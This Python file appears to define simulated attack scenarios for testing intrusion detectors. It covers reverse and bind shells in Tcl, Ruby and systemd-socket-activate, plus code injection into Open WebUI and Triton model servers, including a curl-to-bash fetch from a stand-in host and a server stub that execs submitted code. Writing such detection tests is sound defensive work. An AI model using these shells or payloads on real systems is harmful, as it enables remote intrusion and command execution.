"""Blind, the third lot: written without a look at the detectors. Shells for somebody beyond, and shells in models' servers."""

from __future__ import annotations

import base64
import contextlib
import json

from proving.hosts import Reply
from proving.operators import waits
from proving.scenario import Must, attack
from proving.scenarios.ai_servers import US
from proving.world import ScenarioError, World

NOT = ("port-scan", "lateral-movement", "cryptomining")
MAY = ("unexpected-process", "baseline-deviation", "beaconing")
ORDERS = "orders.service"

TCL = """
set s [socket [lindex $argv 0] [lindex $argv 1]]
fconfigure $s -buffering line
while {[gets $s order] >= 0} {
    if {$order eq "exit"} break
    catch {exec {*}$order} out
    puts $s $out
}
close $s
"""


@attack(
    "blind3-rshell-tcl",
    "tclsh reads commands from a socket of its own, starts each without a shell, and writes back what they print",
    must=(Must("reverse-shell", ORDERS, "203.0.113.215", within=2.0),),
    may=MAY,
    must_not=(*NOT, "data-exfiltration"),
    tools=("tclsh",),
)
def tcl(world: World) -> None:
    """GTFOBins' way. The first command comes 0.7 seconds after the connection."""
    operator = waits(world, "203.0.113.215", 8443)
    path = world.file("/srv/orders/tmp/t.tcl", TCL)
    world.mark()
    said = world.run("tclsh", path, "203.0.113.215", "8443", unit=ORDERS)
    if not operator.answered:
        raise ScenarioError(f"{operator.heard} {said}")


@attack(
    "blind3-bind-shell-activate",
    "systemd's own tool for trying socket activation waits on a port and gives whoever comes from beyond a sh",
    must=(Must("reverse-shell", ORDERS, within=1.0),),
    may=MAY,
    must_not=(*NOT, "data-exfiltration"),
    tools=("systemd-socket-activate",),
)
def activate(world: World) -> None:
    words = ("systemd-socket-activate", "--listen=4455", "--accept", "--inetd", "/bin/sh")
    waiting = world.start(*words, unit=ORDERS)
    world.listening(waiting, 4455)
    world.sleep(1.5)
    stranger = world.host("203.0.113.216")
    heard = b""
    world.mark()
    with stranger.connect(US, 4455) as peer:
        for question in (b"id", b"uname -a", b"ls /home", b"exit"):
            peer.sendall(question + b"\n")
            world.sleep(0.6)
        peer.settimeout(2)
        with contextlib.suppress(OSError):
            while data := peer.recv(4096):
                heard += data
    waiting.stop()
    if b"uid=0" not in heard:
        raise ScenarioError(f"{heard!r} {waiting.said()}")


RUBY_PTY = """
require 'pty'; require 'openssl'; require 'socket'
plain = TCPSocket.new(ARGV[0], 443)
web = OpenSSL::SSL::SSLSocket.new(plain)
web.hostname = ARGV[0]
web.connect
PTY.spawn('/bin/sh') do |out, input, pid|
  Thread.new { loop { input.write(web.readpartial(4096)) } rescue nil }
  loop { web.write(out.readpartial(4096)) } rescue nil
end
"""


@attack(
    "blind3-rshell-ruby-pty",
    "a Ruby script gives a sh a terminal of its own and carries it through TLS to port 443 of a strange host",
    must=(Must("reverse-shell", ORDERS, "gem-mirror.example", within=1.0),),
    may=MAY,
    must_not=(*NOT, "data-exfiltration"),
    tools=("ruby",),
)
def ruby_pty(world: World) -> None:
    operator = waits(world, "203.0.113.217", 443, "eu.gem-mirror.example", tls=True)
    path = world.file("/srv/orders/vendor/hook.rb", RUBY_PTY)
    world.mark()
    said = world.run("ruby", path, "eu.gem-mirror.example", unit=ORDERS)
    if not operator.answered:
        raise ScenarioError(f"{operator.heard} {said}")


SERVER = """
import base64, json, os, subprocess, sys, types
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

def carry_out(path, asked):
    if path == '/api/v1/tools/create':
        exec(asked['content'], types.ModuleType('tool_' + asked['id']).__dict__)
    elif path.endswith('/load'):
        folder = '/srv/triton/models/' + path.split('/')[-2] + '/1'
        os.makedirs(folder, exist_ok=True)
        with open(folder + '/model.py', 'wb') as file:
            file.write(base64.b64decode(asked['parameters']['file:1/model.py']))
        stub = '/srv/triton/backends/python/triton_python_backend_stub'
        subprocess.Popen([sys.executable, stub, folder + '/model.py', 'triton_python_backend_shm_region_1'])

class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        data = self.rfile.read(int(self.headers.get('content-length') or 0))
        if data:
            carry_out(self.path, json.loads(data))
        said = json.dumps({'status': True, 'name': 'triton' if 'triton' in sys.argv[0] else 'Open WebUI'}).encode()
        self.send_response(200)
        self.send_header('Content-Type', 'application/json')
        self.send_header('Content-Length', str(len(said)))
        self.end_headers()
        self.wfile.write(said)

    do_POST = do_GET

    def log_message(self, *words):
        pass

port = next(int(word.split('=')[-1]) for word in sys.argv if word.startswith(('--port=', '--http-port=')))
ThreadingHTTPServer(('0.0.0.0', port), Handler).serve_forever()
"""
MORE = (
    "unauthenticated-model-server",
    "api-access-violation",
    "credential-access",
    "data-exfiltration",
    "reverse-shell",
)


@attack(
    "blind3-shell-open-webui",
    "a stranger makes himself a tool in an Open WebUI that lets anybody in: its code starts a bash that fetches a script",
    imitates="Open WebUI with an open sign-up: a tool as the way in (Sysdig, June 2025)",
    must=(Must("shell-in-model-server", "open-webui.service", within=1.0),),
    may=(*MAY, *MORE),
    must_not=NOT,
    tools=("curl", "bash"),
)
def open_webui(world: World) -> None:
    path = world.file("/srv/open-webui/venv/bin/open-webui", SERVER, 0o755)
    actor = world.script(path, "serve", "--host=0.0.0.0", "--port=8080", unit="open-webui.service")
    world.listening(actor, 8080)
    stage = world.host("203.0.113.218", "paste.tool-hub.example")
    stage.http(80, lambda asked: Reply("#!/bin/sh\nuname -a; nproc; df -h / | tail -1\n"))
    stranger = world.host("203.0.113.219")
    for at in ("/health", "/api/config", "/api/models"):
        assert stranger.ask(US, 8080, "GET", at)[0] == 200
    world.sleep(1.0)
    line = "curl -s http://paste.tool-hub.example/s.sh | bash > /tmp/.t 2>&1"
    content = f"import subprocess\nsubprocess.Popen(['bash', '-c', {line!r}])\nclass Tools:\n    pass\n"
    body = json.dumps({"id": "helper", "name": "Helper", "content": content, "meta": {"description": ""}}).encode()
    world.mark()
    assert stranger.ask(US, 8080, "POST", "/api/v1/tools/create", body, authorization="Bearer eyJhbGci.e30.x")[0] == 200
    world.wait(lambda: stage.requests, "no script was fetched")
    world.sleep(1.5)
    actor.stop()


STUB = "import runpy, sys\nrunpy.run_path(sys.argv[1])\n"
MODEL = "import os\nos.system('id; uname -a; ls -la /srv /home; cat /etc/hosts')\nclass TritonPythonModel:\n    pass\n"


@attack(
    "blind3-shell-triton",
    "a stranger has Triton load a model whose files come with the request: its Python backend's helper runs a sh",
    imitates="Triton's model control API (CVE-2023-31036; Wiz, August 2025: Python backend)",
    must=(Must("shell-in-model-server", "triton.service", within=1.5),),
    may=(*MAY, *MORE),
    must_not=NOT,
)
def triton(world: World) -> None:
    path = world.file("/srv/triton/bin/tritonserver", SERVER, 0o755)
    world.file("/srv/triton/backends/python/triton_python_backend_stub", STUB, 0o755)
    words = ("--model-repository=/srv/triton/models", "--model-control-mode=explicit", "--http-port=8000")
    actor = world.script(path, *words, unit="triton.service")
    world.listening(actor, 8000)
    stranger = world.host("203.0.113.220")
    for at in ("/v2/health/ready", "/v2", "/v2/models/stats"):
        assert stranger.ask(US, 8000, "GET", at)[0] == 200
    world.sleep(1.0)
    files = {"config": '{"backend": "python"}', "file:1/model.py": base64.b64encode(MODEL.encode()).decode()}
    body = json.dumps({"parameters": files}).encode()
    world.mark()
    assert stranger.ask(US, 8000, "POST", "/v2/repository/models/probe/load", body)[0] == 200
    world.sleep(2.5)
    actor.stop()
    if "uid=0" not in actor.said():
        raise ScenarioError(actor.said())
